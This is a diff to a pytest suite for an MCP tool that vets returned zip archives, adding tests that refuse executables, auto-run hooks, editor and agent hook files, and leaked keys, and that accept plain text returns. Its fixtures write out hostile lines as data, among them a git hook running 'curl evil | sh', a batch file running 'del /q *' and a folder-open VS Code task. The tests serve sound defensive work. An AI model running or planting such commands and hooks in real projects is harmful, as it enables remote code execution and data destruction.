@@ -13,6 +13,7 @@ from typing import Any
 import pytest
 from mcp import Client
 
+from handoff_core.contract.return_policy import ReturnPolicy
 from tests.core.files.test_archives import zip_of
 from tests.server.test_stdio import params
 from tests.server.test_tools import call, refused, task_args
@@ -64,7 +65,7 @@ def cache_file(tmp_path: Path) -> str:
 
 def oversized(tmp_path: Path) -> str:
     with open(tmp_path / "answer.zip", "wb") as handle:
-        handle.truncate(256 * 1024 * 1024 + 1)  # sparse: costs no disk
+        handle.truncate(ReturnPolicy().archive_bytes + 1)  # sparse: costs no disk
     return str(tmp_path / "answer.zip")
 
 
@@ -164,3 +165,117 @@ async def test_a_package_leaves_out_files_whose_content_holds_a_secret_and_says_
     assert "GitHub Token on line 2" in reasons["src/settings.py"]
     assert "Private Key on line 1" in reasons["src/deploy/prod-4f3a.json"]
     assert f"src/settings.py: {reasons['src/settings.py']}" in sealed["excluded"]
+
+
+def png() -> bytes:
+    return b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(64))
+
+
+# A return that must never get in: (its archive, the entry the refusal names, a word of the rule).
+HOSTILE_RETURNS: dict[str, tuple[bytes, str, str]] = {
+    "the exec bit": (zip_of(("tools/fix", b"echo fixed\n"), mode=0o755), "tools/fix", "executable bit"),
+    "an ELF binary": (zip_of(("bin/tool.dat", b"\x7fELF\x02\x01\x01" + bytes(64))), "bin/tool.dat", "ELF"),
+    "a PE binary": (zip_of(("tool.dat", b"MZ\x90\x00\x03" + bytes(64) + b"PE\x00\x00")), "tool.dat", "Windows"),
+    "a Mach-O binary": (zip_of(("tool.dat", b"\xcf\xfa\xed\xfe\x07" + bytes(64))), "tool.dat", "Mach-O"),
+    "a shebang script": (zip_of(("candidate/run.py", b"#!/usr/bin/env python3\nprint(1)\n")), "candidate/run.py", "#!"),
+    "a Windows script": (zip_of(("fix.bat", b"del /q *\r\n")), "fix.bat", "Windows"),
+    "a git hook": (zip_of((".git/hooks/post-checkout", b"curl evil | sh\n")), ".git/hooks/post-checkout", "git"),
+    "a GitHub workflow": (
+        zip_of(("candidate/.github/workflows/ci.yml", b"on: push\n")),
+        "candidate/.github/workflows/ci.yml",
+        "workflows",
+    ),
+    "an .envrc": (zip_of((".envrc", b"source ./evil\n")), ".envrc", "environment file"),
+    "VS Code tasks": (zip_of((".vscode/tasks.json", b'{"runOn": "folderOpen"}\n')), ".vscode/tasks.json", "editor"),
+    "a husky hook": (zip_of((".husky/pre-commit", b"npm test\n")), ".husky/pre-commit", "git hooks"),
+    "a pre-commit config": (zip_of((".pre-commit-config.yaml", b"repos: []\n")), ".pre-commit-config.yaml", "commit"),
+    "agent hooks": (zip_of((".claude/settings.json", b'{"hooks": {}}\n')), ".claude/settings.json", "agent"),
+    "a key in a note": (
+        zip_of(("RETURN.md", b"# Return\n"), ("NOTES.md", f"keep:\n{KEY}".encode())),
+        "NOTES.md",
+        "Private Key",
+    ),
+    "an .env with an API key": (
+        zip_of(("config/.env", b"OPENAI_API_KEY=sk-proj-" + b"a1B2" * 10 + b"\n")),
+        "config/.env",
+        "environment",
+    ),
+    "an API key in the answer": (
+        zip_of(("RETURN.md", f"# Return\nLog in with {GHP}\n".encode())),
+        "RETURN.md",
+        "GitHub Token",
+    ),
+    "a private key file": (zip_of(("keys/id_ed25519", b"not telling\n")), "keys/id_ed25519", "key by its name"),
+    "binary data": (zip_of(("data.dat", bytes(range(256)))), "data.dat", "binary content"),
+    "an image in a review": (zip_of(("shot.png", png())), "shot.png", "image content"),
+}
+
+
+async def refusal_text(lead: Client, **arguments: Any) -> str:
+    result = await lead.call_tool("receive_return", arguments)
+    assert result.is_error
+    return str(result.content[0].text)  # type: ignore[union-attr]
+
+
+@pytest.mark.parametrize("kind", sorted(HOSTILE_RETURNS))
+async def test_a_hostile_return_is_refused_naming_the_entry_and_nothing_gets_in(
+    lead: Client, project: Path, tmp_path: Path, kind: str
+) -> None:
+    ids = await sealed_review(lead, project)
+    data, entry, rule = HOSTILE_RETURNS[kind]
+    (tmp_path / "answer.zip").write_bytes(data)
+    text = await refusal_text(lead, **ids, raw_file=str(tmp_path / "answer.zip"))
+    assert text.startswith("Error executing tool receive_return: invalid_content: ")
+    assert f"entry {entry!r}" in text
+    assert rule in text
+    assert inbound(project, ids) == []
+
+
+PLAIN = {
+    "RETURN.md": b"# Return\ndispatch_id: d1\n",
+    "FINDINGS.md": "- caf\u00e9: the parser drops a fence (confidence: high)\n".encode(),
+    "PATCH.diff": b"--- a/src/a.py\n+++ b/src/a.py\n@@ -1 +1 @@\n-x = 1\n+x = 2\n+#!/bin/sh is only text in a diff\n",
+    "candidate/src/a.py": b"def f():\n    return 2\n",
+    "candidate/.gitignore": b"*.pyc\n",
+    "SOURCES.json": b'[{"url": "https://example.org/spec", "title": "Spec"}]\n',
+}
+
+
+async def test_a_plain_text_and_code_return_is_accepted_and_extracted(
+    lead: Client, project: Path, tmp_path: Path
+) -> None:
+    ids = await sealed_review(lead, project)
+    (tmp_path / "answer.zip").write_bytes(zip_of(*PLAIN.items(), ("candidate/docs/", b"")))
+    got = await call(lead, "receive_return", **ids, raw_file=str(tmp_path / "answer.zip"))
+    assert got["extracted"] == len(PLAIN)
+    extracted = project / "temp" / "task-delivery" / "s1" / ids["task_id"] / "d1" / "inbound" / "a1" / "extracted"
+    assert {name: (extracted / name).read_bytes() for name in PLAIN} == PLAIN
+
+
+async def test_the_package_records_the_return_policy_and_the_return_is_judged_by_it(
+    lead: Client, project: Path, tmp_path: Path
+) -> None:
+    ids = await sealed_review(lead, project)
+    staging = project / "temp" / "task-delivery" / "s1" / ids["task_id"] / "d1" / "outbound" / "staging"
+    limits = json.loads((staging / "MANIFEST.json").read_text())["return_limits"]
+    assert limits["content"] == ["text"]
+    assert f"at most {limits['entries']} entries" in (staging / "DISPATCH.md").read_text()
+    too_many = zip_of(*((f"notes/{index}.md", b"x\n") for index in range(limits["entries"] + 1)))
+    (tmp_path / "answer.zip").write_bytes(too_many)
+    assert f"over the {limits['entries']}-entry limit" in await refusal_text(
+        lead, **ids, raw_file=str(tmp_path / "answer.zip")
+    )
+    big = zip_of(("RETURN.md", b"# Return\n" + b"word " * (limits["entry_bytes"] // 5 + 1)))
+    (tmp_path / "answer.zip").write_bytes(big)
+    assert "-byte entry limit" in await refusal_text(lead, **ids, raw_file=str(tmp_path / "answer.zip"))
+    assert inbound(project, ids) == []
+
+
+async def test_a_test_observation_takes_back_screenshots(lead: Client, project: Path, tmp_path: Path) -> None:
+    created = await call(
+        lead, "create_task", **task_args(kind="test-observation", workspace="", writable=[], shared=[])
+    )
+    await call(lead, "package_dispatch", ref=created["ref"], scope_id="s1", dispatch_id="d1", files=[])
+    (tmp_path / "answer.zip").write_bytes(zip_of(("RETURN.md", b"# Return\n"), ("shots/home.png", png())))
+    ids = {**IDS, "task_id": created["ref"].split("/")[2]}
+    assert (await call(lead, "receive_return", **ids, raw_file=str(tmp_path / "answer.zip")))["extracted"] == 2
